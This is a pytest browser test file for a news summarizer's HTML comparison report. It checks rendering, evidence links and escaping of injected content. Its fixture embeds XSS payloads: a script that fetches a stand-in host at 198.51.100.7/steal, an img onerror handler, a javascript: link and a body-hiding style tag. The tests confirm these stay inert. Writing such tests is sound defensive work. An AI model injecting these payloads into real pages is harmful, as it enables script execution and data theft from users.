"""The HTML report in headless Chromium: renders, links to evidence, runs and fetches nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from summarizer.compare.run import load_results, render, run_compare
from summarizer.config import load_settings
from tests.browser_support import browser

ARTICLES = Path(__file__).parent / "fixtures" / "articles"

INJECTED = """Rockets hit Ain al-Assad base in Iraq
Published: 2024-01-09
Several rockets struck the Ain al-Assad air base in western Iraq on Tuesday, the Islamic Resistance in Iraq said.
<script>window.__pwned = 1; fetch("http://198.51.100.7/steal")</script>
Two US soldiers were injured in the attack <img src="http://198.51.100.7/x.png" onerror="window.__pwned = 2">, a US official told reporters.
<a href="javascript:window.__pwned=3">click</a> <style>body{display:none}</style>
"""  # noqa: E501


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("report")
    injected = folder / "injected.txt"
    injected.write_text(INJECTED, encoding="utf-8")
    settings = load_settings(backend="offline", use_cache=False)
    files = [str(p) for p in sorted(ARTICLES.glob("*.txt"))] + [str(injected)]
    loaded = load_results(files, None, settings)
    assert not loaded.errors
    path = folder / "report.html"
    html = render(run_compare(loaded.results, settings), loaded.results, "html", loaded.raws)
    path.write_text(html, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def page(report: Path) -> Iterator[tuple[Any, list[str]]]:
    with browser() as b:
        context = b.new_context(viewport={"width": 1280, "height": 900}, java_script_enabled=True)
        pg = context.new_page()
        requests: list[str] = []
        pg.on("request", lambda r: requests.append(r.url))
        pg.goto(report.as_uri())
        pg.wait_for_load_state("load")
        yield pg, requests
        context.close()


def test_report_renders_non_empty(page: tuple[Any, list[str]]) -> None:
    pg, _ = page
    assert "articles tell their stories" in pg.inner_text("h1")
    assert len(pg.inner_text("body")) > 5000
    assert pg.locator("section.story").count() >= 3
    assert pg.locator("mark.ev").count() > 20 and pg.locator("mark.loaded").count() > 10
    assert pg.locator(".boiler").count() > 0  # boilerplate greyed where cleaning dropped it
    assert pg.locator("svg.timeline circle").count() > 0


def test_matrix_has_the_expected_rows(page: tuple[Any, list[str]]) -> None:
    pg, _ = page
    matrix = pg.locator("table.matrix", has_text="118").first
    facts = matrix.locator("tr.fact-row").evaluate_all("rows => rows.map(r => r.dataset.fact)")
    for fact in ("status", "places", "initiators", "targets", "injured", "count of attacks"):
        assert fact in facts
    row = matrix.locator('tr[data-fact="count of attacks"]')
    cells = row.locator("td.cell")
    assert cells.count() == 2
    assert all("different_scope" in (cells.nth(i).get_attribute("class") or "") for i in (0, 1))
    assert "October 18" in cells.nth(0).inner_text() and "October 17" in cells.nth(1).inner_text()


def test_clicking_a_cell_scrolls_to_its_highlighted_evidence(page: tuple[Any, list[str]]) -> None:
    pg, _ = page
    pg.evaluate("window.scrollTo(0, 0)")
    link = pg.locator('table.matrix tr[data-fact="count of attacks"] td.cell a').nth(1)
    target = (link.get_attribute("href") or "").lstrip("#")
    assert target.startswith("ev-")
    link.click()
    pg.wait_for_function(f"location.hash === '#{target}'")
    state = pg.evaluate(
        """id => {
            const a = document.getElementById(id);
            let m = a.nextElementSibling;
            while (m && m.classList.contains('anchor')) m = m.nextElementSibling;
            const r = a.getBoundingClientRect();
            return {top: r.top, height: innerHeight, scrolled: scrollY,
                    tag: m.tagName, cls: m.className, text: m.textContent,
                    outline: getComputedStyle(m).outlineStyle,
                    title: m.getAttribute('title')};
        }""",
        target,
    )
    assert state["scrolled"] > 1000 and 0 <= state["top"] <= state["height"]
    assert state["tag"] == "MARK" and "ev" in state["cls"] and state["outline"] == "solid"
    assert "count" in state["title"]  # hover shows the field
    assert "118" in state["text"] or "118" in pg.evaluate(
        "id => document.getElementById(id).parentElement.textContent", target
    )


def test_injected_script_does_not_run_and_shows_as_text(page: tuple[Any, list[str]]) -> None:
    pg, _ = page
    assert pg.evaluate("typeof window.__pwned") == "undefined"
    body = pg.inner_text("body")
    assert "<script>window.__pwned = 1;" in body and 'onerror="window.__pwned = 2"' in body
    assert pg.locator("script").count() == 0 and pg.locator("img").count() == 0
    assert pg.locator("body").is_visible()  # the injected <style> hid nothing


def test_no_request_leaves_the_page(page: tuple[Any, list[str]], report: Path) -> None:
    _, requests = page
    assert requests == [report.as_uri()]
